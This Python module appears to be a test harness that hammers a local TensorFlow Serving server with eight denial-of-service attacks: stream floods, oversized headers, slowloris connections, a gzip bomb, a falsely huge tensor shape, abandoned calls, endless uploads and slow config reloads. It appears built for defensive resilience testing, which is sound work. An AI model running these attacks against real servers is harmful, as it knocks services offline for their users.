"""The attacks of `attacks.py`: each holds up a server in its own way until it is told to stop.

Each is a function of a target that returns how often it did so. A server that defends itself
breaks connections and refuses calls, so these errors are what an attack expects.
"""

import contextlib
import functools
import itertools
import os
import socket
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from multiprocessing.synchronize import Barrier, Event
from typing import Any

MEGABYTE = 2**20
WATCHES = 1000
SILENT_CONNECTIONS = 300
HEADER_BYTES = 60 * MEGABYTE
BOMB_BYTES = 600 * MEGABYTE
CLAIMED_FLOATS = 450_000_000
LATE_CALLS = 250
LATE_ROWS = 256
LATE_SECONDS = 1.0
UPLOADS = 20
UPLOAD_BYTES = 50 * MEGABYTE
RELOADS = 200
SLOW_PATH = "/proc"  # a directory with many numbered directories that hold no model
PAUSE_SECONDS = 0.2


@dataclass(frozen=True)
class Target:
    """A server under attack.

    Args:
        port: of gRPC.
        rest_api_port: of REST.
        model: a name that it serves.
        token: of the server; "" for an attacker who has none.
        stopping: set when the attack shall end.
    """

    port: int
    rest_api_port: int
    model: str
    token: str
    stopping: Event

    def connect(self, port: int | None = None) -> socket.socket:
        """Opens a connection to the REST port, or to another one."""
        return socket.create_connection(("127.0.0.1", port or self.rest_api_port), timeout=5.0)

    def channel(self) -> Any:
        """Opens a gRPC channel with a connection of its own."""
        import grpc

        options = [("grpc.enable_http_proxy", 0), ("grpc.use_local_subchannel_pool", 1)]
        return grpc.insecure_channel(f"127.0.0.1:{self.port}", options)

    @property
    def metadata(self) -> list[tuple[str, str]]:
        """What a gRPC call brings along."""
        return [("authorization", f"Bearer {self.token}")] if self.token else []

    def head(self, length: int, *lines: str) -> bytes:
        """The head of a REST request with a body of some length."""
        lines = (f"POST /v1/models/{self.model}:predict HTTP/1.1", "Host: 127.0.0.1", *lines)
        if self.token:
            lines += (f"Authorization: Bearer {self.token}",)
        return "\r\n".join([*lines, f"Content-Length: {length}", "", ""]).encode()


def open_watches(target: Target) -> None:
    """1: health Watch streams without a token, which stay open."""
    from grpc_health.v1 import health_pb2, health_pb2_grpc

    with target.channel() as channel:
        watch = health_pb2_grpc.HealthStub(channel).Watch
        calls = [watch(health_pb2.HealthCheckRequest()) for _ in range(WATCHES)]
        target.stopping.wait(5.0)
        for call in calls:
            call.cancel()


def send_large_header(target: Target) -> None:
    """2: a request head without end."""
    with target.connect() as connection:
        connection.sendall(b"GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ")
        for _ in range(HEADER_BYTES // MEGABYTE):
            if target.stopping.is_set():
                return
            connection.sendall(b"a" * MEGABYTE)
        connection.sendall(b"\r\n\r\n")
        connection.recv(100)


def hold_connections(target: Target) -> None:
    """3: connections that say nothing, or half of something."""
    with contextlib.ExitStack() as stack:
        for number in range(SILENT_CONNECTIONS):
            port = target.port if number % 2 else target.rest_api_port
            with contextlib.suppress(OSError):
                connection = stack.enter_context(target.connect(port))
                if number % 3:
                    connection.sendall(b"POST /v1/models")
        target.stopping.wait(10.0)


def send_gzip_bomb(target: Target) -> None:
    """4: a small body that unpacks to a large one."""
    body = _bomb()
    with target.connect() as connection:
        connection.settimeout(60.0)
        connection.sendall(target.head(len(body), "Content-Encoding: gzip") + body)
        connection.recv(100)


def claim_large_shape(target: Target) -> None:
    """5: a tensor of a few bytes that claims many numbers."""
    from tensorflow.core.framework import types_pb2
    from tensorflow_serving.apis import predict_pb2, prediction_service_pb2_grpc

    request = predict_pb2.PredictRequest()
    request.model_spec.name = target.model
    request.model_spec.signature_name = "recognize"
    request.inputs["image"].dtype = types_pb2.DT_FLOAT
    request.inputs["image"].tensor_shape.dim.add(size=CLAIMED_FLOATS)
    request.inputs["image"].float_val.append(0.0)
    with target.channel() as channel:
        stub = prediction_service_pb2_grpc.PredictionServiceStub(channel)
        stub.Predict(request, timeout=30, metadata=target.metadata)


def leave_early(target: Target) -> None:
    """6: much work for callers who do not wait for it."""
    import numpy as np
    import tensorflow as tf
    from tensorflow_serving.apis import predict_pb2, prediction_service_pb2_grpc

    request = predict_pb2.PredictRequest()
    request.model_spec.name = target.model
    request.model_spec.signature_name = "sample"
    request.inputs["seed"].CopyFrom(tf.make_tensor_proto(np.arange(LATE_ROWS, dtype=np.int64)))
    with target.channel() as channel:
        stub = prediction_service_pb2_grpc.PredictionServiceStub(channel)
        calls = [
            stub.Predict.future(request, timeout=LATE_SECONDS, metadata=target.metadata)
            for _ in range(LATE_CALLS)
        ]
        for call in calls:
            call.exception(timeout=30)


def upload_slowly(target: Target) -> None:
    """7: uploads that never end."""
    with contextlib.ExitStack() as stack:
        for _ in range(UPLOADS):
            with contextlib.suppress(OSError):
                connection = stack.enter_context(target.connect())
                connection.sendall(target.head(UPLOAD_BYTES))
                for _ in range(UPLOAD_BYTES // MEGABYTE - 1):
                    connection.sendall(b" " * MEGABYTE)
        target.stopping.wait(5.0)


def reload_slowly(target: Target) -> None:
    """8: reloads of a path that takes long to look through."""
    from tensorflow_serving.apis import model_management_pb2, model_service_pb2_grpc

    request = model_management_pb2.ReloadConfigRequest()
    request.config.model_config_list.config.add(name="slow", base_path=SLOW_PATH)
    with target.channel() as channel:
        stub = model_service_pb2_grpc.ModelServiceStub(channel)
        calls = [
            stub.HandleReloadConfigRequest.future(request, timeout=30, metadata=target.metadata)
            for _ in range(RELOADS)
        ]
        for call in calls:
            call.exception(timeout=60)


ATTACKS: dict[str, Callable[[Target], None]] = {
    "1 watches": open_watches,
    "2 headers": send_large_header,
    "3 connections": hold_connections,
    "4 gzip bomb": send_gzip_bomb,
    "5 shape": claim_large_shape,
    "6 left early": leave_early,
    "7 uploads": upload_slowly,
    "8 reloads": reload_slowly,
}


def repeat(name: str, target: Target, ready: Barrier, beginning: Event, count: Any) -> None:
    """Attacks until told to stop, in a process of its own, at the lowest priority.

    Args:
        name: of the attack.
        target: the server.
        ready: reached once everything is imported.
        beginning: set when the attacks shall begin.
        count: a shared number, of the attacks so far.
    """
    import grpc
    import tensorflow  # noqa: F401
    import tensorflow_serving.apis.prediction_service_pb2_grpc  # noqa: F401

    if name.startswith("4"):
        _bomb()
    ready.wait()
    beginning.wait()
    # The attackers of a real server have machines of their own; these must not take its processor.
    os.nice(19)
    for number in itertools.count(1):
        if target.stopping.is_set():
            return
        with contextlib.suppress(OSError, grpc.RpcError, grpc.FutureTimeoutError):
            ATTACKS[name](target)
        count.value = number
        time.sleep(PAUSE_SECONDS)


@functools.cache
def _bomb() -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    blocks = [packer.compress(b" " * MEGABYTE) for _ in range(BOMB_BYTES // MEGABYTE)]
    return b"".join([*blocks, packer.flush()])
